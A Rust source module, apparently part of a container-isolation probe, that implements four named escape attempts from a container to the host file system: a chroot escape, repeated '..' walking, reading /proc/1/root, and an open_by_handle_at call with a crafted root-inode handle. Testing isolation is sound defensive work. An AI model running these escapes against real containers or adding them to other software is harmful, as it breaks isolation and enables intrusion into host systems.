//! Leaving the container's own file system for the host's. See chroot(2), proc_pid_root(5),
//! open_by_handle_at(2).

use std::{
    fs::{self, File},
    os::fd::AsRawFd,
    path::Path,
};

use super::{Attempt, Try, done, files::read, path};
use crate::sys;

pub fn find(name: &str) -> Option<Try> {
    Some(match name {
        "chroot-escape" => chroot_escape,
        "walk-up" => walk_up,
        "read-proc-1-root" => read_proc_1_root,
        "open-by-handle" => open_by_handle,
        _ => return None,
    })
}

/// A new root below the working directory, which then is no longer below the root: from there
/// `..` leads all the way up. ARG: a path that is only outside, which is then looked for.
fn chroot_escape(argument: &str) -> Attempt {
    let below = ["/tmp/probe-jail", "/dev/shm/probe-jail", "/probe-jail"];
    let made = below.into_iter().find(|dir| fs::create_dir_all(dir).is_ok());
    let below = made.unwrap_or("/proc");
    // SAFETY: the path lives through the call.
    let jailed = done(unsafe { sys::chroot(path(below).as_ptr()) });
    jailed?;
    let found = walk_up(argument);
    let _ = fs::remove_dir(".");
    found
}

/// `..` many times over. ARG: a path that is only outside, which is then looked for.
fn walk_up(argument: &str) -> Attempt {
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    // SAFETY: the path lives through the call.
    let _ = done(unsafe { sys::chroot(c".".as_ptr()) });
    Path::new(argument.trim_start_matches('/')).symlink_metadata().map(drop)
}

/// ARG: a path that is only outside.
fn read_proc_1_root(argument: &str) -> Attempt {
    read(&format!("/proc/1/root/{}", argument.trim_start_matches('/')))
}

/// Opens the root directory of the file system that the working directory is on, by its inode
/// number, past all mounts. See open_by_handle_at(2).
fn open_by_handle(_: &str) -> Attempt {
    #[repr(C)]
    struct Handle {
        size: u32,
        kind: i32,
        inode: u32,
        generation: u32,
    }
    let handle = Handle { size: 8, kind: 1, inode: 2, generation: 0 };
    let dir = File::open(".")?;
    // SAFETY: the handle is as long as it says.
    done(unsafe { sys::syscall(sys::nr::OPEN_BY_HANDLE_AT, dir.as_raw_fd(), &raw const handle, 0) })
}
